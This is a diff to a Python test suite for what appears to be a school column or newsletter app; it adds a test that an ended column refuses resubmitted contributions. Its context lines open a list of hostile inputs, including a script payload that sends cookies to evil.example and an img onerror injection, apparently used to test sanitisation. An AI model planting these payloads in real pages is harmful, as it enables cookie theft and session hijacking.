@@ -145,6 +145,15 @@ async def test_handing_in_again_needs_the_privacy_notice_too(as_: SignIn, cast: 
     await refused(again, 409, "privacy_notice_first")
 
 
+async def test_a_column_that_has_ended_takes_no_text_back_either(as_: SignIn, cast: Cast) -> None:
+    column = await school_column(as_, cast)
+    item, father = await returned(as_, cast), await as_("王立强")
+    await ok((await as_("许建安")).put(f"/column/series/{column}/state", json={"state": "ended"}))
+    again = father.put(f"/me/column/contributions/{item}", json=STORY)
+    await refused(again, 409, "no_column_here")
+    assert (await ColumnItem.get(id=item)).state == "draft"
+
+
 HOSTILE = [
     "<script>fetch('//evil.example/'+document.cookie)</script>",
     '"><img src=x onerror=alert(1)>',
